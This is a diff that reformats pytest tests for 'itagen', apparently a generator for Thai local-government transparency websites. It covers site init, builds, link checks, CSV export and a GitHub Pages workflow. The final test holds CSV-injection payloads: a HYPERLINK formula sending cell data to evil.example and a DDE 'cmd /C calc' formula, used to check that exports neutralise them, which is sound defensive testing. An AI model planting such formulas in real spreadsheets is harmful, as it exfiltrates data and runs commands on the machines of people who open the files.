@@ -32,8 +32,21 @@ pytestmark = pytest.mark.usefixtures("english")
 
 def test_init_writes_a_site_that_builds_and_refuses_to_overwrite(tmp_path, capsys):
     root = tmp_path / "newsite"
-    assert main(["init", str(root), "--year", "2566", "--name", "องค์การบริหารส่วนตำบลทดลอง",
-                 "--eit-url", "https://itas.nacc.go.th/go/eit/abc123"]) == 0
+    assert (
+        main(
+            [
+                "init",
+                str(root),
+                "--year",
+                "2566",
+                "--name",
+                "องค์การบริหารส่วนตำบลทดลอง",
+                "--eit-url",
+                "https://itas.nacc.go.th/go/eit/abc123",
+            ]
+        )
+        == 0
+    )
     out = capsys.readouterr().out
     assert "itagen serve" in out and "itagen check" in out and "itagen build" in out
     stubs = sorted(p.stem for p in (root / "content/2566").rglob("*.md"))
@@ -42,7 +55,9 @@ def test_init_writes_a_site_that_builds_and_refuses_to_overwrite(tmp_path, capsy
     assert "code: O21" in o21 and "#   3. เป็นข้อมูลแบบรายเดือน" in o21
     result = build(root)
     assert result.ok and (root / "build/2566/o43/index.html").is_file()
-    assert "https://itas.nacc.go.th/go/eit/abc123" in (root / "build/2566/index.html").read_text(encoding="utf-8")
+    assert "https://itas.nacc.go.th/go/eit/abc123" in (root / "build/2566/index.html").read_text(
+        encoding="utf-8"
+    )
     before = (root / "site.yaml").read_bytes()
     assert main(["init", str(root), "--year", "2566", "--name", "อื่น"]) == 1
     assert (root / "site.yaml").read_bytes() == before
@@ -54,7 +69,11 @@ def test_init_workflow_is_valid_yaml_with_the_pages_actions_in_order(tmp_path):
     steps = flow["jobs"]["build"]["steps"] + flow["jobs"]["deploy"]["steps"]
     uses = [s["uses"].split("@")[0] for s in steps if "uses" in s]
     pages = [u for u in uses if u.endswith(("-pages", "-pages-artifact"))]
-    assert pages == ["actions/configure-pages", "actions/upload-pages-artifact", "actions/deploy-pages"]
+    assert pages == [
+        "actions/configure-pages",
+        "actions/upload-pages-artifact",
+        "actions/deploy-pages",
+    ]
     upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-pages-artifact"))
     assert upload["with"]["include-hidden-files"] is True
     runs = " ".join(s.get("run", "") for s in steps)
@@ -115,13 +134,19 @@ def test_every_page_link_and_asset_answers_200_under_a_deep_sub_path(sub_path_se
                 if target.startswith(sub_path_server):
                     queue.append(target)
                 else:
-                    assert not target.startswith("http://127.0.0.1"), f"{url} leaves the sub-path: {link}"
+                    assert not target.startswith("http://127.0.0.1"), (
+                        f"{url} leaves the sub-path: {link}"
+                    )
     assert fetched > 150, fetched  # 43 item pages, their documents, assets, free pages
 
 
 def test_opened_from_disk_every_link_finds_its_file(example_build):
-    missing = [(p.relative_to(example_build), href) for p in example_build.rglob("*.html")
-               for href, target in local_targets(p, example_build) if not target.is_file()]
+    missing = [
+        (p.relative_to(example_build), href)
+        for p in example_build.rglob("*.html")
+        for href, target in local_targets(p, example_build)
+        if not target.is_file()
+    ]
     assert missing == []
 
 
@@ -135,7 +160,7 @@ def test_every_exported_url_exists_in_the_build(example_build):
         for url in row.urls:
             if not url.startswith(base):
                 continue
-            path = example_build / unquote(urlsplit(url).path[len(urlsplit(base).path):])
+            path = example_build / unquote(urlsplit(url).path[len(urlsplit(base).path) :])
             assert (path / "index.html").is_file() if url.endswith("/") else path.is_file(), url
             checked += 1
     assert checked >= 43 + 50
@@ -160,7 +185,11 @@ def test_export_csv_has_a_bom_and_thai_headers_and_json_round_trips(tmp_path, ca
 
 
 def test_export_without_base_url_is_a_clear_error(site):
-    text = (site.root / "site.yaml").read_text(encoding="utf-8").replace("base_url: https://example.org/ita/\n", "")
+    text = (
+        (site.root / "site.yaml")
+        .read_text(encoding="utf-8")
+        .replace("base_url: https://example.org/ita/\n", "")
+    )
     site.write("site.yaml", text)
     loaded, _ = load_site(site.root)
     with pytest.raises(ItagenError, match="public address"):
@@ -183,18 +212,29 @@ def test_a_fresh_init_site_is_checked_and_the_workflow_still_deploys_it(tmp_path
     init_site(root, 2566, "องค์การบริหารส่วนตำบลทดลอง", eit="abc123")
     assert main(["check", str(root), "--format", "github"]) == 1
     out = capsys.readouterr().out
-    assert any(line.startswith("::error file=") and "content/2566/9.1/O1.md" in line for line in out.splitlines())
+    assert any(
+        line.startswith("::error file=") and "content/2566/9.1/O1.md" in line
+        for line in out.splitlines()
+    )
     flow = yaml.safe_load((root / ".github/workflows/itagen.yml").read_text(encoding="utf-8"))
     check = next(s for s in flow["jobs"]["build"]["steps"] if "itagen check" in s.get("run", ""))
     assert check["continue-on-error"] is True
-    assert "pull_request" in flow[True] and flow["jobs"]["deploy"]["if"] == "github.event_name != 'pull_request'"
+    assert (
+        "pull_request" in flow[True]
+        and flow["jobs"]["deploy"]["if"] == "github.event_name != 'pull_request'"
+    )
 
 
 def test_export_csv_neutralises_spreadsheet_formulas(site, tmp_path):
     # A title made for Excel to run (OWASP "CSV Injection"): each such cell gets a leading quote.
-    site.item("9.1", "O2", """
+    site.item(
+        "9.1",
+        "O2",
+        """
         title: '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")'
-    """, "ข้อมูล\\n")
+    """,
+        "ข้อมูล\\n",
+    )
     site.item("9.1", "O3", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'", "ข้อมูล\\n")
     site.item("9.1", "O4", "title: '+1+1'", "ข้อมูล\\n")
     site.item("9.1", "O5", "title: '-2+3'", "ข้อมูล\\n")
